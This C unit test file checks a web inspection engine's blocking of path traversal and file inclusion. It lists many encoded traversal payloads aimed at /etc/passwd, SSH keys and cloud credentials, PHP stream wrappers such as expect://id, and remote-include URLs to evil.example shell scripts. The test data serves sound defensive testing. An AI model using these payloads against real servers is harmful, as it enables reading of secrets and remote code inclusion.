// SPDX-License-Identifier: BSD-3-Clause
//
// Paths that leave their place, and streams that include what they should not.

#define JUDGED INSPECT_TRAVERSAL
#include "tests/unit/dataplane/inspect/judge_value.h"

static void steps_out_are_refused(void **state)
{
	static const char *const values[] = {
		"../../../etc/passwd",
		"../etc/passwd",
		"../../../../../../x/y",
		"..\\..\\..\\windows\\win.ini",
		"/../../../../etc/shadow",
		"a/../../../../etc/passwd",
		"./../../../etc/hosts",
		"..\\..\\..\\boot.ini",
		"../../../../var/log/apache2/access.log",
		"../../../proc/self/environ",
		"../../../../proc/42/cmdline",
		"..//..//..//etc//passwd",
		"..\\/..\\/..\\/etc/passwd",
		"/././././etc/passwd",
		"img/../../../.env",
		"../../../../usr/local/etc/php.ini",
		"../../wp-config.php",
		"..\\..\\web.config",
		"../../../Program Files/App/conf/httpd.conf",
		"../../../../../../etc/any/thing.conf",
		"x=../../../../etc/passwd",
		"cat ../../../../etc/passwd",
		"<!-- ../../../../etc/passwd -->",
		"\"../../../etc/passwd\"",
		"  ../../../etc/passwd  ",
		"../../../root/.ssh/id_rsa",
	};

	(void)state;
	REFUSES(values);
}

static void disguised_steps_are_refused(void **state)
{
	static const char *const values[] = {
		"....//....//....//etc/passwd",
		"..././..././etc/passwd",
		"..;/..;/manager/html",
		"/a/..;/..;/..;/b",
		"....\\\\....\\\\windows\\win.ini",
		"..;a=b/..;c=d/x",
		".. /.. /.. /etc/passwd",
		"%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
		"%252e%252e%252f%252e%252e%252fetc%252fpasswd",
		"..%2f..%2f..%2fetc%2fpasswd",
		".%2e/.%2e/.%2e/etc/passwd",
		"..%5c..%5c..%5cwindows%5cwin.ini",
		"%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd",
		"..%c0%af..%c0%afetc%c0%afpasswd",
		"..%u2215..%u2215..%u2215etc%u2215passwd",
		"..%u2216..%u2216boot.ini",
		"%uff0e%uff0e%u2215%uff0e%uff0e%u2215etc%u2215passwd",
		"..%bg%qf..%bg%qfetc%bg%qfpasswd",
		"??%c0%9v??%c0%9v??%c0%9vetc%c0%9vissue",
		"..0x2f..0x2f..0x2fetc0x2fpasswd",
		"\\u002e\\u002e\\u002f\\u002e\\u002e\\u002fetc\\u002fpasswd",
		"Li4vLi4vLi4vZXRjL3Bhc3N3ZA==",
	};

	(void)state;
	REFUSES(values);
}

static void endings_do_not_hide(void **state)
{
	static const char nul[] = "../../../etc/passwd\0.png", abs[] = "/etc/passwd\0.jpg";

	(void)state;
	assert_true(judge_bytes(PLACE_QUERY, "p", nul, sizeof(nul) - 1) >= BLOCKED);
	assert_true(shows(RULE_PATH_NUL));
	assert_true(judge_bytes(PLACE_QUERY, "p", abs, sizeof(abs) - 1) >= BLOCKED);
	assert_true(judge("../../../etc/passwd%00.png") >= BLOCKED);
}

static void files_of_the_system_are_refused(void **state)
{
	static const char *const values[] = {
		"/etc/passwd",          "/etc/shadow",       "/proc/self/environ",
		"/proc/1/cmdline",      "C:\\boot.ini",      "C:/windows/win.ini",
		"c:\\WINDOWS\\win.ini", "/root/.ssh/id_rsa", "/home/x/.aws/credentials",
		"/proc/version",        "/ETC/PASSWD",       "C:\\inetpub\\wwwroot\\global.asa",
		"//etc/passwd",         "/etc//passwd",      "/etc/./passwd",
		"/x/../etc/passwd",
	};

	(void)state;
	REFUSES(values);
	refuses_all_at(PLACE_COOKIE, "lang", values, COUNT(values));
	refuses_all_at(PLACE_REFERER, "", values, COUNT(values));
}

static void streams_are_refused(void **state)
{
	static const char *const values[] = {
		"php://filter/convert.base64-encode/resource=index.php",
		"php://input",
		"PHP://filter/x",
		"expect://id",
		"phar://a.jpg/x.php",
		"zip://a.jpg#x.php",
		"compress.zlib://x",
		"data://text/plain;base64,PD9waHAgeA==",
		"data:text/plain,<?php x(); ?>",
		"data:;base64,PD9waHAgcGhwaW5mbygpOw==",
		"file:///etc/passwd",
		"file:/etc/shadow",
		"file:////etc/passwd",
		"netdoc:///etc/passwd",
		"jar:http://evil.example/x.jar!/a",
		"file:///c:/windows/win.ini",
		"file://localhost/etc/passwd",
	};

	(void)state;
	REFUSES(values);
}

static void remote_files_are_refused_where_one_is_included(void **state)
{
	static const char *const values[] = {
		"http://evil.example/c99.php", "https://10.9.8.7/x.php?",
		"ftp://evil.example/shell.php", "http://evil.example/x.txt?"};

	(void)state;
	refuses_all_at(PLACE_QUERY, "page", values, COUNT(values));
	refuses_all_at(PLACE_FORM, "include", values, COUNT(values));
	assert_true(judge_at(PLACE_QUERY, "_CONF[path]", "http://evil.example/x") >= BLOCKED);
	assert_true(judge_at(PLACE_QUERY, "url", "http://example.com/index.php") < BLOCKED);
}

static void steps_in_a_request_or_a_file_name_are_refused(void **state)
{
	static const char *const paths[] = {"/../x",
					    "/a/../../b",
					    "/%2e%2e/x",
					    "/static/../../x",
					    "/..;/x/..;/y",
					    "/.git/config",
					    "/.env",
					    "/WEB-INF/web.xml",
					    "/app/.svn/entries",
					    "/.htpasswd",
					    "/.codex2/config.toml",
					    "/.foorc",
					    "/..%5c..%5cx",
					    "/cgi-bin/.%2e/.%2e/.%2e/bin/sh"};
	static const char *const names[] = {"../x.php", "..\\x.asp", "../../../tmp/a", "..%2fx.php",
					    "/../x"};

	(void)state;
	refuses_all_at(PLACE_PATH, "", paths, COUNT(paths));
	refuses_all_at(PLACE_FILE_NAME, "file", names, COUNT(names));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		TEST_VALUES(steps_out_are_refused),
		TEST_VALUES(disguised_steps_are_refused),
		TEST_VALUES(endings_do_not_hide),
		TEST_VALUES(files_of_the_system_are_refused),
		TEST_VALUES(streams_are_refused),
		TEST_VALUES(remote_files_are_refused_where_one_is_included),
		TEST_VALUES(steps_in_a_request_or_a_file_name_are_refused),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
